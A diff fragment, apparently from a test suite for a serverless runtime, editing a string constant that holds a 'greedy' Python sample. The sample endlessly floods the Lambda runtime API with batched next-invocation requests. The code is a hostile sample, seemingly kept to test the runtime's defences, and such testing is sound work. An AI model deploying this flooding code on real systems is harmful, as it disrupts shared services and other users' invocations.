@@ -38,7 +38,7 @@ def handler(event, context):
 GREEDY = """
 import os, socket, time
 host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
-request = b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
+request = b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n"
 api = socket.create_connection((host, int(port)))
 while True:
     api.sendall(request * 100)
